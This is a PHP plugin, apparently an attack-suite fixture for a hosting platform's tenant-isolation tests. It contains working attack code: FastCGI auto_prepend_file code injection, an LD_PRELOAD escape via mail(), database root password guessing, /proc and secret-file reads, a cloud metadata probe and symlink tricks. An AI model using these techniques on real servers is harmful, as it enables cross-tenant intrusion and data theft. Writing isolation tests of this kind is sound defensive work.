<?php
/**
 * Plugin Name: AIPress hostile (attack suite; tests only)
 * Description: A hacked plugin, as e2e/hostile_test.go installs it into one site (A) to attack another site (B),
 *              the shard and the platform. Never install it anywhere else.
 *
 * Entry points:
 *   POST /?aipress_hostile=run      body: the targets (JSON, see hostileTargets in e2e/hostile_test.go); answers
 *                                   {"results":[{id, target, succeeded, skipped, detail}], "links":[…]}: every
 *                                   attack run as the site's php-fpm worker. target is "B", "shard", "platform"
 *                                   (attacks: must fail) or "self" (controls: the same attempt against A's own
 *                                   resources, which must succeed).
 *   POST /?aipress_hostile=hold_db  body {"n":N, "progress":PATH, "release":PATH, "max_seconds":S}: opens up to N
 *                                   connections to A's own database, writes how many to PROGRESS, holds them until
 *                                   RELEASE exists (or S seconds), answers {"opened":N,"error":…}.
 *   WP-Cron through the PHP CLI     reads the targets from A's tmp/aipress-hostile-targets.json (written by the
 *                                   test) and writes the CLI attacks' results to tmp/aipress-hostile-cli.json.
 *   php aipress-hostile.php         (no WordPress; AIPRESS_HOSTILE_SELFTEST=<targets file>) the harness control
 *                                   the test runs as root: the FastCGI attack with the very same client, which
 *                                   must reach B's pool, so a refused attack as A means isolation, not a bug here.
 */

// ---------------------------------------------------------------------------------------------------------------
// Helpers.

function aiph_row($id, $target, $ok, $detail = '', $skipped = false) {
	return ['id' => $id, 'target' => $target, 'succeeded' => (bool) $ok, 'skipped' => (bool) $skipped, 'detail' => (string) $detail];
}

/** Runs $fn, turning any Throwable into a failed attempt with its message. */
function aiph_try($id, $target, callable $fn) {
	try {
		$r = $fn();
		if (is_array($r)) {
			return aiph_row($id, $target, $r[0], $r[1] ?? '', $r[2] ?? false);
		}
		return aiph_row($id, $target, $r);
	} catch (\Throwable $e) {
		return aiph_row($id, $target, false, get_class($e) . ': ' . $e->getMessage());
	}
}

function aiph_err() {
	$e = error_get_last();
	error_clear_last();
	return $e ? $e['message'] : '';
}

function aiph_short($s, $n = 160) {
	$s = preg_replace('/\s+/', ' ', (string) $s);
	return strlen($s) > $n ? substr($s, 0, $n) . '…' : $s;
}

/** Reads a file; [succeeded, detail]. */
function aiph_read($path) {
	error_clear_last();
	$b = @file_get_contents($path);
	if ($b === false) {
		return [false, 'read refused: ' . aiph_err()];
	}
	return [true, 'read ' . strlen($b) . ' bytes'];
}

function aiph_list($dir) {
	error_clear_last();
	$l = @scandir($dir);
	if ($l === false) {
		return [false, 'scandir refused: ' . aiph_err()];
	}
	return [true, 'listed ' . count($l) . ' entries'];
}

/** Creates a file in $dir (and removes it again); [succeeded, detail]. */
function aiph_write($dir) {
	error_clear_last();
	$f = rtrim($dir, '/') . '/aipress-hostile-write-' . getmypid() . '.txt';
	$n = @file_put_contents($f, 'written by the hostile plugin');
	if ($n === false) {
		return [false, 'write refused: ' . aiph_err()];
	}
	@unlink($f);
	return [true, 'created ' . basename($f)];
}

/** Opens an existing file for appending without writing; [succeeded, detail]. */
function aiph_open_append($path) {
	error_clear_last();
	$h = @fopen($path, 'a');
	if ($h === false) {
		return [false, 'open for writing refused: ' . aiph_err()];
	}
	fclose($h);
	return [true, 'opened for writing'];
}

/** One HTTP/1.1 request; returns [status (0: no answer), body, error]. */
function aiph_http($method, $url, array $headers = [], $body = '', $timeout = 2.0) {
	$u = parse_url($url);
	if (!$u || empty($u['host'])) {
		return [0, '', 'bad url ' . $url];
	}
	$tls = ($u['scheme'] ?? 'http') === 'https';
	$port = $u['port'] ?? ($tls ? 443 : 80);
	$path = ($u['path'] ?? '/') . (isset($u['query']) ? '?' . $u['query'] : '');
	// An attacker does not check the server's certificate; it simply has
	// none of its own to offer (the gateway asks for one).
	$ctx = stream_context_create(['ssl' => ['verify_peer' => false, 'verify_peer_name' => false, 'allow_self_signed' => true]]);
	$fp = @stream_socket_client(($tls ? 'tls://' : 'tcp://') . $u['host'] . ':' . $port, $errno, $errstr, $timeout,
		STREAM_CLIENT_CONNECT, $ctx);
	if (!$fp) {
		return [0, '', "connect: $errstr ($errno)"];
	}
	stream_set_timeout($fp, (int) ceil($timeout), 0);
	$hasHost = false;
	foreach ($headers as $h) {
		if (stripos($h, 'host:') === 0) {
			$hasHost = true;
		}
	}
	$req = "$method $path HTTP/1.1\r\n";
	if (!$hasHost) {
		$req .= 'Host: ' . $u['host'] . ':' . $port . "\r\n";
	}
	foreach ($headers as $h) {
		$req .= $h . "\r\n";
	}
	$req .= 'Content-Length: ' . strlen($body) . "\r\nConnection: close\r\n\r\n" . $body;
	fwrite($fp, $req);
	$resp = '';
	while (!feof($fp)) {
		$chunk = fread($fp, 65536);
		if ($chunk === false || ($chunk === '' && stream_get_meta_data($fp)['timed_out'])) {
			break;
		}
		$resp .= $chunk;
		if (strlen($resp) > (4 << 20)) {
			break;
		}
	}
	fclose($fp);
	if (!preg_match('#^HTTP/\d\.\d (\d{3})#', $resp, $m)) {
		return [0, '', 'no HTTP answer'];
	}
	$parts = explode("\r\n\r\n", $resp, 2);
	return [(int) $m[1], $parts[1] ?? '', ''];
}

// ---------------------------------------------------------------------------------------------------------------
// A minimal FastCGI client (responder role, one request per connection).

function aiph_fcgi_len($n) {
	return $n < 128 ? chr($n) : pack('N', $n | 0x80000000);
}

function aiph_fcgi_record($type, $content) {
	return pack('CCnnCx', 1, $type, 1, strlen($content), 0) . $content;
}

/** Sends one request; returns [ok (connected and answered), stdout, error]. */
function aiph_fcgi($address, array $params, $timeout = 2.0) {
	$fp = @stream_socket_client($address, $errno, $errstr, $timeout);
	if (!$fp) {
		return [false, '', "connect: $errstr ($errno)"];
	}
	stream_set_timeout($fp, 4, 0);
	$p = '';
	foreach ($params as $k => $v) {
		$p .= aiph_fcgi_len(strlen($k)) . aiph_fcgi_len(strlen($v)) . $k . $v;
	}
	$out = aiph_fcgi_record(1, pack('nCx5', 1, 0)); // BEGIN_REQUEST, responder, close after
	$out .= aiph_fcgi_record(4, $p) . aiph_fcgi_record(4, '') . aiph_fcgi_record(5, '');
	if (@fwrite($fp, $out) === false) {
		fclose($fp);
		return [false, '', 'write failed'];
	}
	$stdout = '';
	$stderr = '';
	$ended = false;
	while (!$ended) {
		$h = fread($fp, 8);
		if ($h === false || strlen($h) < 8) {
			break;
		}
		$r = unpack('Cversion/Ctype/nid/nlen/Cpad/Cres', $h);
		$body = '';
		$want = $r['len'] + $r['pad'];
		while (strlen($body) < $want) {
			$c = fread($fp, $want - strlen($body));
			if ($c === false || $c === '') {
				break 2;
			}
			$body .= $c;
		}
		$body = substr($body, 0, $r['len']);
		if ($r['type'] === 6) {
			$stdout .= $body;
		} elseif ($r['type'] === 7) {
			$stderr .= $body;
		} elseif ($r['type'] === 3) {
			$ended = true;
		}
	}
	fclose($fp);
	if ($stdout === '' && !$ended) {
		return [false, '', 'no FastCGI answer (dropped by the pool?)'];
	}
	return [true, $stdout, $stderr];
}

/**
 * The FastCGI attack on one address: run B's index.php with an auto_prepend_file that reads B's private marker
 * (in B's tmp/, 0600) and prints it; succeeded = the marker came back (code ran as B).
 */
function aiph_fcgi_attack($address, array $victim) {
	// php-fpm keeps PHP_VALUE/PHP_ADMIN_VALUE in the worker for its later requests: the prepended code acts only
	// on requests that carry our parameter, so that B's visitors do not notice.
	$code = '<?php if(isset($_SERVER["AIPRESS_HOSTILE"])){$f=@file_get_contents(' . var_export($victim['tmp_marker'], true) . ');'
		. 'echo "AIPRESS-GOT[".base64_encode((string)$f)."]AIPRESS-UID[".(function_exists("posix_getuid")?posix_getuid():-1)."]";exit;}';
	// Quoted: the value is parsed as INI, where ';' starts a comment.
	$prepend = '"data://text/plain;base64,' . base64_encode($code) . '"';
	$script = rtrim($victim['docroot'], '/') . '/index.php';
	$params = [
		'GATEWAY_INTERFACE' => 'FastCGI/1.0',
		'REQUEST_METHOD' => 'GET',
		'SCRIPT_FILENAME' => $script,
		'SCRIPT_NAME' => '/index.php',
		'REQUEST_URI' => '/',
		'QUERY_STRING' => '',
		'DOCUMENT_ROOT' => $victim['docroot'],
		'SERVER_NAME' => $victim['host'],
		'SERVER_PORT' => '80',
		'SERVER_PROTOCOL' => 'HTTP/1.1',
		'HTTP_HOST' => $victim['host'],
		'REMOTE_ADDR' => '127.0.0.1',
		'CONTENT_LENGTH' => '0',
		'AIPRESS_HOSTILE' => '1',
		'PHP_ADMIN_VALUE' => "allow_url_include=On\nauto_prepend_file=$prepend",
		'PHP_VALUE' => "allow_url_include=On\nauto_prepend_file=$prepend",
	];
	[$ok, $out, $err] = aiph_fcgi($address, $params);
	if (!$ok) {
		return [false, $err];
	}
	if (preg_match('/AIPRESS-GOT\[([A-Za-z0-9+\/=]*)\]AIPRESS-UID\[(-?\d+)\]/', $out, $m)) {
		$got = base64_decode($m[1]);
		if ($got !== '' && hash('sha256', $got) === $victim['tmp_marker_sha256']) {
			return [true, "ran code as uid {$m[2]}: B's private marker came back"];
		}
		return [false, "code ran as uid {$m[2]} but B's marker was not readable"];
	}
	return [false, 'the pool answered but our code did not run: ' . aiph_short($out . ' ' . $err, 120)];
}

/** Every FastCGI address on the shard the site can find: sockets in php/run, TCP listens in pool.d, ports given. */
function aiph_fcgi_addresses(array $shard) {
	$socks = glob(rtrim($shard['php_run'], '/') . '/*.sock') ?: [];
	$addrs = [];
	foreach ($socks as $s) {
		$addrs['unix://' . $s] = 'socket';
	}
	foreach (glob(rtrim($shard['pool_conf_dir'], '/') . '/*.conf') ?: [] as $conf) {
		$c = @file_get_contents($conf);
		if ($c !== false && preg_match('/^listen\s*=\s*(\S+):(\d+)\s*$/m', $c, $m)) {
			$host = in_array($m[1], ['0.0.0.0', '*', '[::]'], true) ? '127.0.0.1' : $m[1];
			$addrs["tcp://$host:{$m[2]}"] = 'tcp';
		}
	}
	foreach ($shard['tcp_ports'] ?? [] as $p) {
		$addrs['tcp://127.0.0.1:' . (int) $p] = 'tcp';
	}
	return $addrs;
}

/** The FastCGI attack against every address; rows per kind (socket, tcp). */
function aiph_fcgi_rows(array $t, $prefix = 'fpm') {
	$byKind = ['socket' => [], 'tcp' => []];
	foreach (aiph_fcgi_addresses($t['shard']) as $addr => $kind) {
		$byKind[$kind][$addr] = aiph_fcgi_attack($addr, $t['victim']);
	}
	$rows = [];
	foreach (['socket' => 'every php-fpm socket in php/run', 'tcp' => 'every pool TCP port found'] as $kind => $what) {
		$won = [];
		$lost = [];
		foreach ($byKind[$kind] as $addr => $r) {
			if ($r[0]) {
				$won[] = "$addr: {$r[1]}";
			} else {
				$lost[] = basename($addr) . ': ' . aiph_short($r[1], 60);
			}
		}
		if (!$byKind[$kind]) {
			$rows[] = aiph_row("fastcgi_$kind", 'B', false, "no $kind found (" . $what . ')');
			continue;
		}
		$detail = count($byKind[$kind]) . " tried; " . ($won ? 'RAN AS B via ' . implode('; ', $won) : implode('; ', array_slice($lost, 0, 4)));
		$rows[] = aiph_row("fastcgi_$kind", 'B', (bool) $won, $detail);
	}
	return $rows;
}

// ---------------------------------------------------------------------------------------------------------------
// Process attacks that both the php-fpm worker and the PHP CLI try.

function aiph_exec_family() {
	$ran = [];
	$callable = [];
	foreach (['exec', 'shell_exec', 'system', 'passthru', 'proc_open', 'popen', 'pcntl_exec'] as $f) {
		if (function_exists($f)) {
			$callable[] = $f;
		}
	}
	if (in_array('exec', $callable, true) && @exec('id -u', $o) !== false && $o) {
		$ran[] = 'exec';
	}
	if (in_array('shell_exec', $callable, true) && trim((string) @shell_exec('id -u')) !== '') {
		$ran[] = 'shell_exec';
	}
	if (in_array('proc_open', $callable, true)) {
		$p = @proc_open(['id', '-u'], [1 => ['pipe', 'w']], $pipes);
		if (is_resource($p)) {
			$out = stream_get_contents($pipes[1]);
			fclose($pipes[1]);
			proc_close($p);
			if (trim($out) !== '') {
				$ran[] = 'proc_open';
			}
		}
	}
	if (in_array('popen', $callable, true)) {
		$h = @popen('id -u', 'r');
		if ($h) {
			if (trim((string) fread($h, 100)) !== '') {
				$ran[] = 'popen';
			}
			pclose($h);
		}
	}
	// system and passthru print to the response; pcntl_exec would replace this process: available is enough.
	if (!$callable) {
		return [false, 'none of exec, shell_exec, system, passthru, proc_open, popen, pcntl_exec exists'];
	}
	return [true, 'callable: ' . implode(',', $callable) . ($ran ? '; ran `id -u` with ' . implode(',', $ran) : '')];
}

function aiph_ffi() {
	if (!class_exists('FFI')) {
		return [false, 'FFI extension not loaded'];
	}
	$ffi = \FFI::cdef('int getpid(void);');
	$pid = $ffi->getpid();
	if ($pid === getmypid()) {
		return [true, "FFI::cdef called libc getpid() = $pid"];
	}
	return [false, "FFI answered $pid"];
}

/** putenv(LD_PRELOAD) + mail(): the .so's constructor writes $mark. */
function aiph_ld_preload($so, $mark) {
	if ($so === '' || !is_file($so)) {
		return [false, 'no preload library given (gcc missing?)', true];
	}
	@unlink($mark);
	if (!function_exists('putenv')) {
		return [false, 'putenv does not exist'];
	}
	$tried = [];
	foreach (['mail', 'mb_send_mail', 'error_log'] as $how) {
		if (!function_exists($how)) {
			continue;
		}
		$tried[] = $how;
		@putenv('LD_PRELOAD=' . $so);
		@putenv('AIPRESS_HOSTILE_MARK=' . $mark);
		error_clear_last();
		if ($how === 'error_log') {
			@error_log('hostile', 1, 'nobody@localhost');
		} else {
			@$how('nobody@localhost', 'hostile', 'hostile');
		}
		@putenv('LD_PRELOAD=');
		clearstatcache();
		if (is_file($mark)) {
			$m = trim((string) @file_get_contents($mark));
			return [true, "native code ran through $how(): marker says $m"];
		}
	}
	return [false, $tried ? 'no marker after ' . implode(', ', $tried) : 'no mail function exists'];
}

/** pcntl_fork: a process the platform did not start (outlives the request or the cron run). */
function aiph_fork() {
	if (!function_exists('pcntl_fork')) {
		return [false, 'pcntl_fork does not exist'];
	}
	if (!function_exists('posix_kill')) {
		return [true, 'pcntl_fork is callable (not called: the child could not end itself without posix_kill)'];
	}
	$pid = pcntl_fork();
	if ($pid === 0) {
		posix_kill(getmypid(), 9); // the child ends at once, running nothing of WordPress
	}
	if ($pid > 0) {
		pcntl_waitpid($pid, $st);
		return [true, "forked child $pid"];
	}
	return [false, 'pcntl_fork failed'];
}

/** posix_kill(pid, 0) on B's worker: permission to signal it. */
function aiph_signal(array $pids) {
	if (!function_exists('posix_kill')) {
		return [false, 'posix_kill does not exist'];
	}
	foreach ($pids as $pid) {
		if (@posix_kill((int) $pid, 0)) {
			return [true, "may signal pid $pid"];
		}
	}
	return [false, 'EPERM for ' . implode(',', $pids) . (function_exists('posix_get_last_error') ? ' (' . posix_strerror(posix_get_last_error()) . ')' : '')];
}

// ---------------------------------------------------------------------------------------------------------------
// The php-fpm run.

function aiph_run_fpm(array $t) {
	$self = $t['self'];
	$v = $t['victim'];
	$sh = $t['shard'];
	$pl = $t['platform'];
	$rows = [];

	// OPcache first, while the test keeps B's secret script warm: include B's compiled script that A cannot read.
	$rows[] = aiph_try('opcache_include_compiled', 'B', function () use ($v) {
		$last = '';
		for ($i = 0; $i < 30; $i++) {
			error_clear_last();
			$r = (function ($p) { return @include $p; })($v['php_secret']);
			if (is_string($r) && hash('sha256', $r) === $v['php_secret_sha256']) {
				return [true, "include returned B's marker (attempt " . ($i + 1) . ')'];
			}
			$last = aiph_err();
			usleep(100000);
		}
		return [false, '30 attempts: ' . aiph_short($last, 100)];
	});
	$rows[] = aiph_try('opcache_include_own', 'self', function () use ($self) {
		$r = (function ($p) { return @include $p; })($self['php_secret']);
		return [is_string($r) && hash('sha256', $r) === $self['php_secret_sha256'], 'own script'];
	});
	$rows[] = aiph_try('opcache_status_lists_others', 'shard', function () use ($v) {
		if (!function_exists('opcache_get_status')) {
			return [false, 'opcache_get_status does not exist'];
		}
		$s = @opcache_get_status(true);
		if (!is_array($s)) {
			return [false, 'refused: ' . aiph_err()];
		}
		$n = 0;
		foreach (array_keys($s['scripts'] ?? []) as $path) {
			if (strpos($path, rtrim($v['site_dir'], '/') . '/') === 0) {
				$n++;
			}
		}
		return [$n > 0, count($s['scripts'] ?? []) . " scripts listed, $n of B's"];
	});
	$rows[] = aiph_try('opcache_invalidate_other', 'B', function () use ($v) {
		if (!function_exists('opcache_invalidate')) {
			return [false, 'opcache_invalidate does not exist'];
		}
		$r = @opcache_invalidate($v['php_secret'], true);
		return [$r === true, $r ? 'B\'s script invalidated' : 'refused: ' . aiph_err()];
	});
	$rows[] = aiph_try('opcache_reset', 'shard', function () {
		if (!function_exists('opcache_reset')) {
			return [false, 'opcache_reset does not exist'];
		}
		$r = @opcache_reset();
		return [$r === true, $r ? 'the whole shard\'s cache was reset' : 'refused: ' . aiph_err()];
	});

	// B's files, and the same files of A as controls.
	foreach (['wp_config' => 'wp-config.php', 'tmp_marker' => 'tmp file', 'session' => 'PHP session', 'log' => 'log',
		'upload' => 'upload'] as $k => $what) {
		$rows[] = aiph_try("read_$k", 'B', function () use ($v, $k) { return aiph_read($v[$k]); });
		$rows[] = aiph_try("read_$k", 'self', function () use ($self, $k) { return aiph_read($self[$k]); });
	}
	$rows[] = aiph_try('read_secrets_json', 'B', function () use ($v) { return aiph_read($v['secrets']); });
	foreach (['site_dir', 'uploads', 'tmp', 'logs'] as $k) {
		$rows[] = aiph_try("list_$k", 'B', function () use ($v, $k) { return aiph_list($v[$k]); });
		$rows[] = aiph_try("list_$k", 'self', function () use ($self, $k) { return aiph_list($self[$k]); });
	}
	foreach (['uploads', 'tmp'] as $k) {
		$rows[] = aiph_try("write_$k", 'B', function () use ($v, $k) { return aiph_write($v[$k]); });
		$rows[] = aiph_try("write_$k", 'self', function () use ($self, $k) { return aiph_write($self[$k]); });
	}
	$rows[] = aiph_try('write_wp_content', 'B', function () use ($v) { return aiph_write($v['wp_content']); });
	$rows[] = aiph_try('write_wp_config', 'B', function () use ($v) { return aiph_open_append($v['wp_config']); });
	// Code every site runs: the shared core and the platform's must-use plugin and scripts.
	foreach ($sh['shared_code'] as $name => $path) {
		$rows[] = aiph_try("write_shared_$name", 'shard', function () use ($path) {
			return is_dir($path) ? aiph_write($path) : aiph_open_append($path);
		});
	}
	// Root-only files of the shard and the platform.
	foreach ($pl['root_files'] as $name => $path) {
		$rows[] = aiph_try("read_root_$name", 'platform', function () use ($path) { return aiph_read($path); });
	}
	$rows[] = aiph_try('read_mariadb_datadir', 'shard', function () use ($sh, $v) {
		return aiph_read(rtrim($sh['mariadb_datadir'], '/') . '/' . $v['db_name'] . '/wp_options.ibd');
	});

	// Discovery: what the shard's pool configurations would tell about the other sites (users, docroots).
	$rows[] = aiph_try('discover_pool_configs', 'shard', function () use ($sh, $v) {
		$n = 0;
		$named = false;
		foreach (glob(rtrim($sh['pool_conf_dir'], '/') . '/*.conf') ?: [] as $c) {
			$b = @file_get_contents($c);
			if ($b !== false) {
				$n++;
				$named = $named || strpos($b, $v['docroot']) !== false;
			}
		}
		return [$n > 0, "$n pool configurations readable" . ($named ? ", one names B's docroot" : '')];
	});

	// FastCGI to the pools.
	foreach (aiph_fcgi_rows($t) as $r) {
		$rows[] = $r;
	}
	// The shard's static-file server (remote edges): unauthenticated, it serves B to anyone who can connect.
	$rows[] = aiph_try('static_server', 'shard', function () use ($sh, $v) {
		if (empty($sh['static_urls'])) {
			return [false, 'no static server in this mode'];
		}
		$res = [];
		foreach ($sh['static_urls'] as $u) {
			[$code, $body, $err] = aiph_http('GET', rtrim($u, '/') . $v['upload_path'], ['Host: ' . $v['host']]);
			if ($code === 200 && hash('sha256', $body) === $v['upload_sha256']) {
				return [true, "$u served B's upload to A"];
			}
			$res[] = "$u: " . ($code ?: $err);
		}
		return [false, implode('; ', $res)];
	});
	// The gateway's FastCGI relay, over TLS without a client certificate:
	// name B's host and see whether the gateway answers "ok" (the pool).
	$rows[] = aiph_try('gateway_fastcgi_relay', 'shard', function () use ($sh, $v) {
		$res = [];
		foreach ($sh['static_urls'] ?? [] as $u) {
			$p = parse_url($u);
			if (($p['scheme'] ?? '') !== 'https') {
				continue;
			}
			$ctx = stream_context_create(['ssl' => ['verify_peer' => false, 'verify_peer_name' => false, 'allow_self_signed' => true]]);
			$fp = @stream_socket_client('tls://' . $p['host'] . ':' . $p['port'], $errno, $errstr, 2.0, STREAM_CLIENT_CONNECT, $ctx);
			if (!$fp) {
				$res[] = "$u: connect/handshake: $errstr ($errno)";
				continue;
			}
			stream_set_timeout($fp, 2, 0);
			@fwrite($fp, $v['host'] . "\n");
			$line = (string) @fgets($fp, 100);
			fclose($fp);
			if (trim($line) === 'ok') {
				return [true, "$u relayed A to B's pool"];
			}
			$res[] = "$u: " . ($line === '' ? 'closed' : aiph_short($line, 40));
		}
		if (!$res) {
			return [false, 'no gateway in this mode'];
		}
		return [false, implode('; ', $res)];
	});

	// MariaDB.
	foreach (aiph_db_rows($t) as $r) {
		$rows[] = $r;
	}

	// The edge's purge endpoint with A's key: for B (attack) and for A (control).
	foreach (['B' => $v['host'], 'self' => $self['host']] as $target => $host) {
		$rows[] = aiph_try('purge_with_own_key', $target, function () use ($pl, $host) {
			if (!defined('AIPRESS_PURGE_KEY')) {
				return [false, 'no purge key in wp-config.php'];
			}
			[$code, $body, $err] = aiph_http('POST', $pl['purge_url'], ['Host: ' . $host, 'X-AIPress-Purge-Key: ' . AIPRESS_PURGE_KEY,
				'Content-Type: application/json'], '{"all":true}');
			return [$code === 200, "HTTP $code " . aiph_short($body, 60) . $err];
		});
	}
	// The control plane's API and the platform's HTTP side doors.
	$key = defined('AIPRESS_PURGE_KEY') ? AIPRESS_PURGE_KEY : 'x';
	$rows[] = aiph_try('api_no_token', 'platform', function () use ($pl) {
		[$code, $body, $err] = aiph_http('GET', $pl['api'] . '/v1/sites');
		return [$code === 200, "GET /v1/sites: HTTP $code $err"];
	});
	$rows[] = aiph_try('api_purge_key_as_token', 'platform', function () use ($pl, $key) {
		[$code, $body, $err] = aiph_http('GET', $pl['api'] . '/v1/sites', ['Authorization: Bearer ' . $key]);
		return [$code === 200, "GET /v1/sites: HTTP $code $err"];
	});
	$rows[] = aiph_try('api_metrics', 'platform', function () use ($pl, $key) {
		$out = [];
		foreach (['' => 'no token', $key => 'purge key'] as $tok => $what) {
			[$code, $body, $err] = aiph_http('GET', $pl['api'] . '/metrics', $tok === '' ? [] : ['Authorization: Bearer ' . $tok]);
			if ($code === 200) {
				return [true, "GET /metrics with $what: 200"];
			}
			$out[] = "$what: HTTP $code $err";
		}
		return [false, implode('; ', $out)];
	});
	foreach ($pl['metrics'] ?? [] as $i => $u) {
		$rows[] = aiph_try('edge_metrics', 'platform', function () use ($u) {
			[$code, $body, $err] = aiph_http('GET', $u);
			return [$code === 200 && strpos($body, 'aipress_') !== false, "GET $u: HTTP $code $err"];
		});
	}
	if (!empty($pl['pprof'])) {
		$rows[] = aiph_try('pprof', 'platform', function () use ($pl) {
			[$code, $body, $err] = aiph_http('GET', $pl['pprof'] . '/debug/pprof/cmdline');
			return [$code === 200, "GET /debug/pprof/cmdline: HTTP $code " . aiph_short(str_replace("\0", ' ', $body), 80) . $err];
		});
	}
	$rows[] = aiph_try('edge_reachable', 'self', function () use ($pl, $self) {
		[$code, $body, $err] = aiph_http('GET', $pl['edge'] . '/?aipress_hostile_probe=' . mt_rand(), ['Host: ' . $self['host']]);
		return [$code === 200, "own front page through the edge: HTTP $code $err"];
	});
	$rows[] = aiph_try('cloud_metadata', 'platform', function () {
		$fp = @stream_socket_client('tcp://169.254.169.254:80', $errno, $errstr, 1.0);
		if (!$fp) {
			return [false, "connect: $errstr ($errno)"];
		}
		fclose($fp);
		return [true, 'connected to 169.254.169.254:80'];
	});

	// /proc of B's workers and of the platform's root processes; /proc/self as the control.
	foreach (['environ', 'cmdline', 'maps'] as $f) {
		$rows[] = aiph_try("proc_$f", 'B', function () use ($v, $f) {
			$res = [];
			foreach ($v['pids'] as $pid) {
				$b = @file_get_contents("/proc/$pid/$f");
				if ($b !== false && $b !== '') {
					return [true, "read /proc/$pid/$f (" . strlen($b) . ' bytes): ' . aiph_short(str_replace("\0", ' ', $b), 60)];
				}
				$res[] = "$pid: " . ($b === false ? 'refused' : 'empty');
			}
			return [false, $res ? implode('; ', $res) : 'no pid given'];
		});
		$rows[] = aiph_try("proc_$f", 'platform', function () use ($pl, $f) {
			$got = [];
			$res = [];
			foreach ($pl['pids'] as $name => $pid) {
				$b = @file_get_contents("/proc/$pid/$f");
				if ($b !== false && $b !== '') {
					$got[] = "$name ($pid): " . aiph_short(str_replace("\0", ' ', $b), 60);
				} else {
					$res[] = "$name: " . ($b === false ? 'refused' : 'empty');
				}
			}
			return [(bool) $got, $got ? 'read ' . implode('; ', $got) : implode('; ', $res)];
		});
		// A worker that changed its user is not dumpable: its own environ is root's, so that row is only reported.
		$rows[] = aiph_try("proc_$f", $f === 'environ' ? 'info' : 'self', function () use ($f) {
			$b = @file_get_contents('/proc/self/' . $f);
			return [$b !== false && $b !== '', $b === false ? 'refused' : strlen($b) . ' bytes'];
		});
	}
	$rows[] = aiph_try('signal_worker', 'B', function () use ($v) { return aiph_signal($v['pids']); });

	// Escapes from PHP into native code.
	$rows[] = aiph_try('exec_family', 'shard', 'aiph_exec_family');
	$rows[] = aiph_try('ffi', 'shard', 'aiph_ffi');
	$rows[] = aiph_try('ld_preload_mail', 'shard', function () use ($t, $self) {
		return aiph_ld_preload($t['ld_preload'] ?? '', rtrim($self['tmp'], '/') . '/aipress-hostile-ld-fpm.mark');
	});
	$rows[] = aiph_try('fork', 'shard', 'aiph_fork');
	// The machine's world-writable directories: room to fill the machine's disk or memory (more than 256 MiB
	// writable where the site's own limit does not apply)?
	$rows[] = aiph_try('fill_shared_tmp', 'shard', function () {
		$open = [];
		$seen = [];
		foreach (['/tmp', '/var/tmp', '/dev/shm', '/run/lock', '/var/lib/php/sessions'] as $d) {
			if (!is_dir($d)) {
				continue;
			}
			$f = @tempnam($d, 'aipress-fill-');
			$w = $f !== false && strpos($f, $d . '/') === 0;
			if ($f !== false) {
				@unlink($f);
			}
			$free = @disk_free_space($d);
			$seen[] = "$d: " . ($w ? 'writable' : 'not writable') . ', ' . ($free === false ? '?' : round($free / 1048576) . ' MiB free');
			if ($w && $free !== false && $free > 256 * 1048576) {
				$open[] = $d;
			}
		}
		return [(bool) $open, implode('; ', $seen)];
	});

	// Links in A's uploads to files A must never see; the test fetches them through the edge.
	$links = [];
	$dir = rtrim($self['uploads'], '/') . '/aipress-hostile-links';
	@mkdir($dir, 0755);
	foreach ($t['links'] as $l) {
		$name = $l['name'];
		@unlink("$dir/$name.txt");
		@unlink("$dir/$name-hard.txt");
		error_clear_last();
		$sym = @symlink($l['path'], "$dir/$name.txt");
		$symErr = $sym ? '' : aiph_err();
		$hard = false;
		$hardErr = '';
		if (empty($l['dir'])) {
			$hard = @link($l['path'], "$dir/$name-hard.txt");
			$hardErr = $hard ? '' : aiph_err();
		}
		$links[] = ['name' => $name, 'symlink' => $sym, 'symlink_error' => $symErr, 'hardlink' => $hard, 'hardlink_error' => $hardErr];
	}
	return ['results' => $rows, 'links' => $links, 'pid' => getmypid()];
}

function aiph_db_connect($user, $pass, $db, $viaSocket, $socket, $port) {
	mysqli_report(MYSQLI_REPORT_OFF);
	$m = mysqli_init();
	$m->options(MYSQLI_OPT_CONNECT_TIMEOUT, 2);
	$ok = $viaSocket
		? @$m->real_connect('localhost', $user, $pass, $db, 0, $socket)
		: @$m->real_connect('127.0.0.1', $user, $pass, $db, (int) $port);
	return $ok ? $m : mysqli_connect_error();
}

function aiph_db_rows(array $t) {
	$sh = $t['shard'];
	$v = $t['victim'];
	$rows = [];
	$sock = $sh['mariadb_socket'];
	$port = $sh['mariadb_port'];
	$guesses = ['', 'root', 'password', 'mariadb', 'mysql', 'aipress', DB_PASSWORD];
	foreach (['socket' => true, 'tcp' => false] as $via => $viaSocket) {
		$rows[] = aiph_try("db_root_$via", 'shard', function () use ($guesses, $viaSocket, $sock, $port) {
			$errs = [];
			foreach ($guesses as $pw) {
				$c = aiph_db_connect('root', $pw, '', $viaSocket, $sock, $port);
				if ($c instanceof mysqli) {
					$c->close();
					return [true, 'root with password "' . $pw . '"'];
				}
				$errs[$c] = true;
			}
			return [false, count($guesses) . ' passwords: ' . aiph_short(implode(' | ', array_keys($errs)), 120)];
		});
	}
	// B's user on MariaDB's own socket and on the shard's pooler (DB_HOST),
	// which checks credentials itself.
	$rows[] = aiph_try('db_other_user', 'B', function () use ($v, $sock, $port) {
		foreach (array_unique(array_filter([$sock, aiph_db_socket()])) as $s) {
			foreach (['', DB_PASSWORD, $v['db_user']] as $pw) {
				$c = aiph_db_connect($v['db_user'], $pw, '', true, $s, $port);
				if ($c instanceof mysqli) {
					return [true, "B's database user with password \"$pw\" on $s"];
				}
			}
		}
		return [false, 'refused: ' . aiph_short($c, 100)];
	});
	// Its own database the way WordPress reaches it: DB_HOST (the pooler's
	// socket; MariaDB's own is closed to site users then).
	$own = aiph_db_connect(DB_USER, DB_PASSWORD, DB_NAME, true, aiph_db_socket() ?: $sock, $port);
	$rows[] = aiph_row('db_connect', 'self', $own instanceof mysqli, $own instanceof mysqli ? 'own database' : (string) $own);
	if (!($own instanceof mysqli)) {
		return $rows;
	}
	$q = function ($sql) use ($own) {
		$r = @$own->query($sql);
		if ($r === false) {
			return [false, $own->error];
		}
		$all = $r === true ? [] : $r->fetch_all();
		return [true, $all];
	};
	$rows[] = aiph_try('db_select', 'self', function () use ($q) {
		[$ok, $r] = $q('SELECT option_value FROM ' . DB_NAME . ".wp_options WHERE option_name = 'siteurl'");
		return [$ok && $r, $ok ? 'own wp_options: ' . aiph_short($r[0][0] ?? '', 60) : $r];
	});
	$rows[] = aiph_try('db_show_databases', 'B', function () use ($q, $v) {
		[$ok, $r] = $q('SHOW DATABASES');
		$names = $ok ? array_column($r, 0) : [];
		return [in_array($v['db_name'], $names, true), $ok ? 'sees ' . implode(',', $names) : $r];
	});
